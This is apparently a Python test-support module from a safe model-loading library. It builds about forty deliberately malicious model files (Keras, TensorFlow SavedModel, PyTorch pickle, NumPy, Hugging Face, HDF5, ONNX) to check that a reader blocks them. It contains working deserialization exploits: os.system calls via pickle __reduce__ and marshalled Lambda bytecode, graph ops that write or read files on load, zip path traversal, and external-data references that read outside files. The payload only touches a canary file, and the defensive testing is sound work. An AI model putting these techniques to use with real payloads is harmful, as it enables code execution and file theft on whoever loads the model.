"""Models that start a program, write a file or read another one, where a reader lets them.

Each builder makes one model in an empty folder. The model is after two files elsewhere: the canary,
which must never come to be, and the secret, which must never be opened.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import pickle
import shutil
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any, TypeAlias

import h5py
import numpy as np
import onnx
from onnx import numpy_helper

from tests.support.golden_cases import GOLDEN


@dataclass(frozen=True)
class Prey:
    """What the models are after.

    Attributes:
        canary: A file that they would write.
        secret: A file that they would read.
    """

    canary: Path
    secret: Path

    @property
    def command(self) -> str:
        """A shell command that writes the canary."""
        return f"touch {self.canary}"


Build: TypeAlias = Callable[[Path, Prey], Path]
"""Makes a model in a folder, and returns the path that a victim would name."""


# --- Keras ---------------------------------------------------------------------------------------


def _keras_3(layer: dict[str, Any]) -> dict[str, Any]:
    """A functional model of Keras 3 of one input and one layer."""
    image = _entry("InputLayer", {"batch_shape": [None, 8, 8, 3], "name": "i"}) | {
        "name": "i",
        "inbound_nodes": [],
    }
    config = {
        "name": "m",
        "layers": [image, layer],
        "input_layers": [["i", 0, 0]],
        "output_layers": [["x", 0, 0]],
    }
    return _entry("Functional", config, module="keras.src.models.functional")


def _entry(name: str, config: Any, *, module: str = "keras.layers") -> dict[str, Any]:
    return {"module": module, "class_name": name, "config": config, "registered_name": None}


def _on_image(entry: dict[str, Any]) -> dict[str, Any]:
    history = {"keras_history": ["i", 0, 0]}
    tensor = {"shape": [None, 8, 8, 3], "dtype": "float32", **history}
    called = {"args": [{"class_name": "__keras_tensor__", "config": tensor}], "kwargs": {}}
    return entry | {"name": "x", "inbound_nodes": [called]}


def _write_keras(path: Path, config: Any, version: str = "3.8.0") -> Path:
    weights = io.BytesIO()
    with h5py.File(weights, "w") as file:
        file.create_group("layers")
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("metadata.json", json.dumps({"keras_version": version}))
        archive.writestr("model.weights.h5", weights.getvalue())
    return path


def _write_h5(path: Path, layers: list[dict[str, Any]]) -> Path:
    """A whole model of Keras 2."""
    image = _layer_2("InputLayer", "i", {"batch_input_shape": [None, 8, 8, 3]}, [])
    config = {
        "name": "m",
        "layers": [image, *layers],
        "input_layers": [["i", 0, 0]],
        "output_layers": [[layers[-1]["name"], 0, 0]],
    }
    with h5py.File(path, "w") as file:
        for holder in (file, file.create_group("model_weights")):
            holder.attrs["keras_version"], holder.attrs["backend"] = "2.15.0", "tensorflow"
        file.attrs["model_config"] = json.dumps({"class_name": "Functional", "config": config})
        file["model_weights"].attrs["layer_names"] = [b"x"]
    return path


def _layer_2(name: str, label: str, config: dict[str, Any], nodes: Any) -> dict[str, Any]:
    return {
        "class_name": name,
        "config": config | {"name": label},
        "name": label,
        "inbound_nodes": nodes,
    }


_IMAGE_2 = [[["i", 0, 0, {}]]]


def _bytecode(prey: Prey, arguments: str) -> str:
    source = f"lambda {arguments}: __import__('os').system({prey.command!r}) or x"
    code = compile(source, "x", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode()


def _lambda_3(folder: Path, prey: Prey) -> Path:
    code = {"code": _bytecode(prey, "x"), "defaults": None, "closure": None}
    function = {"class_name": "__lambda__", "config": code}
    config = {"name": "x", "function": function, "arguments": {}}
    return _write_keras(folder / "model.keras", _keras_3(_on_image(_entry("Lambda", config))))


def _lambda_2(folder: Path, prey: Prey) -> Path:
    config = {
        "function": [_bytecode(prey, "x"), None, None],
        "function_type": "lambda",
        "module": "builtins",
        "output_shape_type": "raw",
        "arguments": {},
    }
    return _write_h5(folder / "model.h5", [_layer_2("Lambda", "x", config, _IMAGE_2)])


def _function_3(folder: Path, prey: Prey) -> Path:
    entry = _entry("function", "system", module="os") | {"registered_name": "system"}
    called = entry | {"name": "x", "inbound_nodes": [{"args": [prey.command], "kwargs": {}}]}
    return _write_keras(folder / "model.keras", _keras_3(called))


def _function_2(folder: Path, prey: Prey) -> Path:
    entry = _entry("function", "system", module="os") | {"registered_name": "system"}
    nodes = [[["_CONSTANT_VALUE", -1, prey.command, {}]]]
    called = entry | {"name": "x", "inbound_nodes": nodes}
    return _write_keras(folder / "model.keras", _keras_3(called), "2.15.0")


def _activation_function(folder: Path, prey: Prey) -> Path:
    activation = _entry("function", "system", module="os") | {"registered_name": "system"}
    layer = _entry("Dense", {"name": "x", "units": 3, "activation": activation})
    return _write_keras(folder / "model.keras", _keras_3(_on_image(layer)))


def _get_file(folder: Path, prey: Prey) -> Path:
    """A function of Keras's own that fetches a file, and may put it anywhere."""
    called = {
        "args": ["x", prey.secret.as_uri()],
        "kwargs": {"cache_dir": str(prey.canary.parent), "cache_subdir": prey.canary.name},
    }
    entry = _entry("function", "get_file", module="keras.utils") | {"registered_name": "get_file"}
    layer = entry | {"name": "x", "inbound_nodes": [called]}
    return _write_keras(folder / "model.keras", _keras_3(layer))


def _unsafe_mode(folder: Path, prey: Prey) -> Path:
    """A function of Keras's own that turns its safe mode off, before a Lambda."""
    name = "enable_unsafe_deserialization"
    entry = _entry("function", name, module="keras.config") | {"registered_name": name}
    unsafe = entry | {"name": "u", "inbound_nodes": [{"args": [], "kwargs": {}}]}
    with zipfile.ZipFile(_lambda_3(folder, prey)) as archive:
        config = json.loads(archive.read("config.json"))
    config["config"]["layers"].insert(1, unsafe)
    return _write_keras(folder / "model.keras", config)


def _wrapped_lambda(folder: Path, prey: Prey) -> Path:
    """A Lambda inside a layer that wraps another one."""
    with zipfile.ZipFile(_lambda_3(folder, prey)) as archive:
        inner = json.loads(archive.read("config.json"))["config"]["layers"][1]
    layer = _entry("TimeDistributed", {"name": "x", "layer": inner})
    return _write_keras(folder / "model.keras", _keras_3(_on_image(layer)))


def _polyglot(folder: Path, prey: Prey) -> Path:
    """HDF5 with a Lambda, and a zip with a harmless config behind it."""
    path, behind = _lambda_2(folder, prey), io.BytesIO()
    with zipfile.ZipFile(behind, "w") as archive:
        harmless = {"class_name": "Sequential", "config": {"name": "s", "layers": []}}
        archive.writestr("config.json", json.dumps(harmless))
        archive.writestr("metadata.json", json.dumps({"keras_version": "2.15.0"}))
    with path.open("ab") as stream:
        stream.write(behind.getvalue())
    return path


def _residual_wrapper(folder: Path, prey: Prey) -> Path:
    """Bytecode in what wraps the cell of a recurrent layer."""
    inner = {"class_name": "SimpleRNNCell", "config": {"name": "c", "units": 24}}
    wrapper = {
        "name": "w",
        "cell": inner,
        "residual_fn": [_bytecode(prey, "i, x"), None, None],
        "residual_fn_type": "lambda",
        "residual_fn_module": None,
    }
    layers = [
        _layer_2("Reshape", "r", {"target_shape": [8, 24]}, _IMAGE_2),
        _layer_2(
            "RNN",
            "x",
            {"cell": {"class_name": "ResidualWrapper", "config": wrapper}},
            [[["r", 0, 0, {}]]],
        ),
    ]
    return _write_h5(folder / "model.h5", layers)


def _operation(folder: Path, function: str, argument: Path, options: dict[str, Any]) -> Path:
    nodes = [["_CONSTANT_VALUE", -1, str(argument), options]]
    return _write_h5(
        folder / "model.h5", [_layer_2("TFOpLambda", "x", {"function": function}, nodes)]
    )


def _operation_writes(folder: Path, prey: Prey) -> Path:
    return _operation(folder, "io.write_file", prey.canary, {"contents": "x"})


def _operation_reads(folder: Path, prey: Prey) -> Path:
    return _operation(folder, "io.read_file", prey.secret, {})


def _vocabulary(folder: Path, prey: Prey) -> Path:
    """A layer that reads its words from a file."""
    layer = _entry("StringLookup", {"name": "x", "vocabulary": str(prey.secret)})
    return _write_keras(folder / "model.keras", _keras_3(_on_image(layer)))


def _vocabulary_2(folder: Path, prey: Prey) -> Path:
    config = {"vocabulary": str(prey.secret), "mask_token": None}
    return _write_h5(folder / "model.h5", [_layer_2("StringLookup", "x", config, _IMAGE_2)])


def _saved_model_layer(folder: Path, prey: Prey) -> Path:
    """A layer that loads another model, whose graph writes."""
    other = _saved_model(_write_file, serving=False)(folder / "other", prey)
    layer = _entry("TFSMLayer", {"name": "x", "filepath": str(other), "call_endpoint": "serve"})
    return _write_keras(folder / "model.keras", _keras_3(_on_image(layer)))


def _slip(folder: Path, prey: Prey) -> Path:
    """A member whose name leads out of the folder that the archive is unpacked to."""
    path = _write_keras(folder / "model.keras", _keras_3(_on_image(_entry("Flatten", {}))))
    with zipfile.ZipFile(path, "a") as archive:
        for name in (str(prey.canary), "../" * 12 + str(prey.canary).lstrip("/")):
            archive.writestr(name, b"x")
    return path


def _preset(folder: Path, prey: Prey) -> Path:
    """A preset of KerasHub that names a function of the operating system."""
    shutil.copytree(GOLDEN / "keras_hub_vit_preset", folder / "model")
    task = json.loads((folder / "model" / "task.json").read_text())
    task |= {"module": "os", "class_name": "function", "config": "system"}
    (folder / "model" / "task.json").write_text(json.dumps(task))
    return folder / "model"


# --- SavedModel ----------------------------------------------------------------------------------


_Attack: TypeAlias = Callable[[Prey], Any]
"""Makes the operation of a graph that does harm."""


def _write_file(prey: Prey) -> Any:
    import tensorflow as tf

    return tf.raw_ops.WriteFile(filename=str(prey.canary), contents="x")


def _read_file(prey: Prey) -> Any:
    import tensorflow as tf

    return tf.raw_ops.ReadFile(filename=str(prey.secret))


def _print_to_file(prey: Prey) -> Any:
    import tensorflow as tf

    return tf.raw_ops.PrintV2(input="x", output_stream=f"file://{prey.canary}")


def _save_tensor(prey: Prey) -> Any:
    import tensorflow as tf

    return tf.raw_ops.SaveV2(
        prefix=str(prey.canary), tensor_names=["x"], shape_and_slices=[""], tensors=[1.0]
    )


def _read_table(prey: Prey) -> Any:
    import tensorflow as tf

    table = tf.raw_ops.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64)
    return tf.raw_ops.InitializeTableFromTextFileV2(
        table_handle=table, filename=str(prey.secret), key_index=-2, value_index=-1
    )


def _saved_model(attack: _Attack, *, serving: bool) -> Build:
    """A graph that does harm where it serves, or when it is loaded."""

    def build(folder: Path, prey: Prey) -> Path:
        import tensorflow as tf

        v1 = tf.compat.v1
        with tf.Graph().as_default(), v1.Session() as session:
            image = v1.placeholder(tf.float32, [None, 8, 8, 3], name="image")
            weights = v1.get_variable("w", [192, 10], initializer=v1.ones_initializer())
            harm = v1.group(attack(prey))
            with v1.control_dependencies([harm] if serving else []):
                logits = tf.matmul(tf.reshape(image, [-1, 192]), weights)
            session.run(weights.initializer)
            builder = v1.saved_model.Builder(str(folder / "model"))
            signature = v1.saved_model.predict_signature_def({"image": image}, {"logits": logits})
            builder.add_meta_graph_and_variables(
                session,
                ["serve"],
                {"serving_default": signature},
                main_op=None if serving else harm,
            )
            builder.save()
        return folder / "model"

    return build


def _saved_function(folder: Path, prey: Prey) -> Path:
    """Harm in a function that another function calls."""
    import tensorflow as tf

    @tf.function(autograph=False)
    def harm() -> Any:
        with tf.control_dependencies([_write_file(prey)]):
            return tf.identity(0.0)

    class Model(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 8, 8, 3])], autograph=False)
        def serve(self, image: tf.Tensor) -> dict[str, tf.Tensor]:
            return {"logits": tf.reshape(image, [-1, 192])[:, :10] + harm()}

    model = Model()
    tf.saved_model.save(model, str(folder / "model"), signatures={"serving_default": model.serve})
    return folder / "model"


# --- pickles -------------------------------------------------------------------------------------


class _Command:
    """What a pickle would run."""

    def __init__(self, prey: Prey) -> None:
        self._prey = prey

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (self._prey.command,)


def _write_torch(path: Path, content: bytes) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", content)
        archive.writestr("archive/version", "3")
        archive.writestr("archive/data/0", bytes(64))
    return path


def _torch_reduce(folder: Path, prey: Prey) -> Path:
    return _write_torch(folder / "model.pth", pickle.dumps({"state_dict": _Command(prey)}, 2))


def _torch_inst(folder: Path, prey: Prey) -> Path:
    return _write_torch(folder / "model.pth", f"(S'{prey.command}'\nios\nsystem\n.".encode())


def _torch_dotted(folder: Path, prey: Prey) -> Path:
    name = b"OrderedDict.__init__.__globals__"
    content = b"\x80\x04\x8c\x0bcollections\x8c" + bytes([len(name)]) + name + b"\x93."
    return _write_torch(folder / "model.pth", content)


def _torch_legacy(folder: Path, prey: Prey) -> Path:
    path = folder / "model.pth"
    magic = bytes.fromhex("80028a0a6cfc9c46f9206aa850192e")
    path.write_bytes(magic + pickle.dumps(_Command(prey)))
    return path


def _bare_pickle(folder: Path, prey: Prey) -> Path:
    (folder / "model.pth").write_bytes(pickle.dumps(_Command(prey)))
    return folder / "model.pth"


def _npz_object(folder: Path, prey: Prey) -> Path:
    with np.load(GOLDEN / "google_npz" / "vit.npz") as arrays:
        values = dict(arrays)
    values["head/bias"] = np.array([_Command(prey)], object)
    np.savez(folder / "vit.npz", **values)
    return folder / "vit.npz"


# --- Hugging Face --------------------------------------------------------------------------------


def _hugging_face(folder: Path, name: str) -> Path:
    return shutil.copytree(GOLDEN / name, folder / "model")


def _auto_map(folder: Path, prey: Prey) -> Path:
    """Remote code, which transformers runs where it is trusted."""
    model = _hugging_face(folder, "hugging_face_vit")
    config = json.loads((model / "config.json").read_text())
    config["auto_map"] = {"AutoConfig": "evil.C", "AutoModelForImageClassification": "evil.M"}
    (model / "config.json").write_text(json.dumps(config))
    (model / "evil.py").write_text(f"import os; os.system({prey.command!r})")
    return model


def _hugging_face_pickle(folder: Path, prey: Prey) -> Path:
    model = _hugging_face(folder, "hugging_face_vit")
    (model / "model.safetensors").unlink()
    _write_torch(model / "pytorch_model.bin", pickle.dumps(_Command(prey)))
    return model


def _shard_outside(folder: Path, prey: Prey) -> Path:
    model = _hugging_face(folder, "hugging_face_sharded")
    index = model / "model.safetensors.index.json"
    content = json.loads(index.read_text())
    outside = os.path.relpath(prey.secret, model)
    content["weight_map"] = dict.fromkeys(content["weight_map"], outside)
    index.write_text(json.dumps(content))
    return model


# --- data outside the file -----------------------------------------------------------------------


@contextmanager
def _without_head_bias(folder: Path) -> Iterator[tuple[Path, Any, str, tuple[int, ...]]]:
    path = folder / "weights.h5"
    shutil.copy(GOLDEN / "vit_keras2_weights" / "weights.h5", path)
    with h5py.File(path, "r+") as file:
        names: list[str] = []
        file.visit(names.append)
        name = next(each for each in names if "head" in each and "bias" in each)
        shape = file[name].shape
        del file[name]
        yield path, file, name, shape


def _hdf5_external(folder: Path, prey: Prey) -> Path:
    with _without_head_bias(folder) as (path, file, name, shape):
        place = [(str(prey.secret), 0, 4 * int(np.prod(shape)))]
        file.create_dataset(name, shape, "<f4", external=place)
    return path


def _hdf5_link(folder: Path, prey: Prey) -> Path:
    with _without_head_bias(folder) as (path, file, name, _):
        file[name] = h5py.ExternalLink(str(prey.secret), "/x")
    return path


def _hdf5_virtual(folder: Path, prey: Prey) -> Path:
    with _without_head_bias(folder) as (path, file, name, shape):
        layout = h5py.VirtualLayout(shape, "<f4")
        layout[...] = h5py.VirtualSource(str(prey.secret), "x", shape)
        file.create_virtual_dataset(name, layout)
    return path


def _onnx_outside(folder: Path, prey: Prey) -> Path:
    model = onnx.load(GOLDEN / "lift" / "timm_dynamo_free.onnx")
    largest = max(
        (each for each in model.graph.initializer if each.data_type == onnx.TensorProto.FLOAT),
        key=lambda each: numpy_helper.to_array(each).size,
    )
    size = numpy_helper.to_array(largest).nbytes
    largest.ClearField("raw_data")
    largest.ClearField("float_data")
    largest.data_location = onnx.TensorProto.EXTERNAL
    outside = os.path.relpath(prey.secret, folder)
    for key, value in (("location", outside), ("offset", "0"), ("length", str(size))):
        largest.external_data.add(key=key, value=value)
    (folder / "model.onnx").write_bytes(model.SerializeToString())
    return folder / "model.onnx"


BUILDERS: dict[str, Build] = {
    "lambda": _lambda_3,
    "lambda of Keras 2": _lambda_2,
    "lambda in a wrapper": _wrapped_lambda,
    "lambda after unsafe mode": _unsafe_mode,
    "function as a layer": _function_3,
    "function as a layer of Keras 2": _function_2,
    "function as an activation": _activation_function,
    "function that fetches": _get_file,
    "polyglot": _polyglot,
    "bytecode in a cell": _residual_wrapper,
    "operation that writes": _operation_writes,
    "operation that reads": _operation_reads,
    "vocabulary": _vocabulary,
    "vocabulary of Keras 2": _vocabulary_2,
    "layer that loads a model": _saved_model_layer,
    "slip": _slip,
    "preset": _preset,
    "graph that writes": _saved_model(_write_file, serving=True),
    "graph that writes when loaded": _saved_model(_write_file, serving=False),
    "graph that reads": _saved_model(_read_file, serving=True),
    "graph that reads when loaded": _saved_model(_read_file, serving=False),
    "graph that prints when loaded": _saved_model(_print_to_file, serving=False),
    "graph that saves when loaded": _saved_model(_save_tensor, serving=False),
    "graph that reads a table when loaded": _saved_model(_read_table, serving=False),
    "graph with a function that writes": _saved_function,
    "pickle that calls": _torch_reduce,
    "pickle of protocol 0": _torch_inst,
    "pickle with a dotted name": _torch_dotted,
    "pickle before torch 1.6": _torch_legacy,
    "bare pickle": _bare_pickle,
    "array of objects": _npz_object,
    "remote code": _auto_map,
    "pickle beside a config": _hugging_face_pickle,
    "shard outside": _shard_outside,
    "HDF5 external storage": _hdf5_external,
    "HDF5 external link": _hdf5_link,
    "HDF5 virtual data set": _hdf5_virtual,
    "ONNX external data": _onnx_outside,
}
"""Every kind of attack, by name."""

HARMLESS = frozenset(("remote code", "slip"))
"""Models that may be read, because what is evil about them is left alone."""

WEIGHTS_ALONE = frozenset(each for each in BUILDERS if each.startswith("HDF5"))
"""Models whose number of heads has to be said."""
